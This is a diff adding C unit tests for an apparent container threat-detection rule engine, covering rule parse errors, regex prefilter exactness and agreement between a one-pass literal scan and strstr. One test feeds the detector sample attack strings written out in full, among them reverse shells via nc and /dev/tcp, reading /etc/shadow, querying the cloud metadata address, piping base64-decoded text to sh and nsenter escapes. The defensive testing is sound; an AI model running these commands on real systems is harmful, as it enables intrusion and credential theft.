@@ -64,6 +64,17 @@ START_TEST(parse_errors_say_what)
     ck_assert_int_eq(rules_add_line(&rs, "name=x severity=low technique=X1 binary=/a", "t", err, sizeof err), -1);
     ck_assert_int_eq(rules_add_line(&rs, "name=\"x severity=low", "t", err, sizeof err), -1);
     ck_assert_ptr_nonnull(strstr(err, "quote"));
+    /* found by fuzzing: a refused line took its disable= with it only
+     * after the fix, and stacked repetitions made regcomp take gigabytes */
+    ck_assert_int_eq(rules_add_line(&rs, "disable=shell-in-container oops", "t", err, sizeof err),
+                     -1);
+    ck_assert_uint_eq(rs.ndisabled, 0);
+    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=low binary~=d++++++++++++++++++++"
+                                         "++++++++++++++++++++++++++++++++++++++++",
+                                     "t", err, sizeof err), -1);
+    ck_assert_ptr_nonnull(strstr(err, "repeats too much"));
+    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=low binary~=((a{100}){100}){100}", "t",
+                                    err, sizeof err), -1);
     ck_assert_int_eq(rules_add_line(&rs, "  # a comment", "t", err, sizeof err), 0);
     ck_assert_int_eq(rules_add_line(&rs, "", "t", err, sizeof err), 0);
     ck_assert_uint_eq(rs.n, 0);
@@ -226,6 +237,31 @@ START_TEST(prefilter_literals)
 }
 END_TEST
 
+static int exact(const char *re) {
+    prefilter pf;
+    ck_assert_int_eq(prefilter_compile(re, &pf), 0);
+    int e = pf.exact;
+    prefilter_free(&pf);
+    return e;
+}
+
+/* Only a plain alternation of whole words skips regexec. */
+START_TEST(prefilter_exact)
+{
+    ck_assert(exact("connect"));
+    ck_assert(exact("commit_creds|cap_capable|security_capset"));
+    ck_assert(exact("CAP_SYS_ADMIN"));
+    ck_assert(!exact("a.b"));
+    ck_assert(!exact("/nsenter$"));
+    ck_assert(!exact("a|"));            /* an empty branch matches everything */
+    ck_assert(!exact("|a"));
+    ck_assert(!exact("(a|b)"));
+    ck_assert(!exact("a\\|b"));
+    ck_assert(!exact("abcdefghijklmnopqrstuvwxyz0123456789")); /* cut to 31: not whole */
+    ck_assert(!exact(""));
+}
+END_TEST
+
 /* Soundness: for every built-in regex and many strings, a string the
  * regex matches always passes the prefilter. */
 START_TEST(prefilter_never_hides_a_match)
@@ -247,10 +283,50 @@ START_TEST(prefilter_never_hides_a_match)
         for (int c = 0; c < rs.v[i].ncond; c++) {
             const rule_cond *rc = &rs.v[i].cond[c];
             if (rc->op != COND_RE && rc->op != COND_NRE) continue;
-            for (size_t t = 0; t < sizeof texts / sizeof texts[0]; t++)
-                if (regexec(&rc->re, texts[t], 0, NULL, 0) == 0)
+            for (size_t t = 0; t < sizeof texts / sizeof texts[0]; t++) {
+                int m = regexec(&rc->re, texts[t], 0, NULL, 0) == 0;
+                if (m)
                     ck_assert_msg(prefilter_may_match(&rc->pf, texts[t]), "%s hides %s",
                                   rc->value, texts[t]);
+                if (rc->pf.exact)   /* then the literals decide alone */
+                    ck_assert_msg(prefilter_may_match(&rc->pf, texts[t]) == m, "%s exact on %s",
+                                  rc->value, texts[t]);
+            }
+        }
+    rules_free(&rs);
+}
+END_TEST
+
+/* The one-pass literal search (rules_prepare) decides exactly as one
+ * strstr per literal does: the same rules match on every text, put in
+ * every field at once and in each field alone. */
+START_TEST(prepared_scan_agrees_with_strstr)
+{
+    ruleset rs = RULESET_INIT;
+    char err[256];
+    ck_assert_int_eq(rules_load_builtin(&rs, err, sizeof err), 0);
+    ck_assert_ptr_nonnull(rs.scan);
+    static const char *const texts[] = {
+        "/usr/bin/nc -e /bin/sh 1.2.3.4 4444", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "/bin/sh",
+        "cat /etc/shadow", "/etc/cron.d/x", "sock tcp 10.0.0.1:4000 -> 1.2.3.4:4444", "nsenter -t 1 -m sh",
+        "curl http://169.254.169.254/latest", "chmod u+s /tmp/x", "echo x | base64 -d | sh", "yes", "",
+        "cap CAP_SYS_ADMIN", "/run/containerd/containerd.sock", "/usr/sbin/insmod x.ko", "process_exec",
+    };
+    for (size_t t = 0; t < sizeof texts / sizeof texts[0]; t++)
+        for (int field = -1; field < F_NFIELDS; field++) {
+            facts fx = container_exec("/bin/true", "");
+            for (int f = 0; f < F_NFIELDS; f++)
+                if (field < 0 || f == field) fx.f[f] = texts[t];
+            verdict a, b;
+            rules_eval(&rs, &fx, &a);
+            rules_scan *keep = rs.scan;
+            rs.scan = NULL;
+            rules_eval(&rs, &fx, &b);
+            rs.scan = keep;
+            ck_assert_uint_eq(a.nmatched, b.nmatched);
+            for (size_t i = 0; i < a.nmatched; i++)
+                ck_assert_msg(a.matched[i] == b.matched[i], "[%s] in field %d: %s vs %s", texts[t], field,
+                              a.matched[i]->name, b.matched[i]->name);
         }
     rules_free(&rs);
 }
@@ -282,7 +358,9 @@ static void add_tests(TCase *tc) {
     tcase_add_test(tc, builtin_rules_all_complete);
     tcase_add_test(tc, rules_file_reports_line);
     tcase_add_test(tc, prefilter_literals);
+    tcase_add_test(tc, prefilter_exact);
     tcase_add_test(tc, prefilter_never_hides_a_match);
+    tcase_add_test(tc, prepared_scan_agrees_with_strstr);
 }
 
 int main(void) {
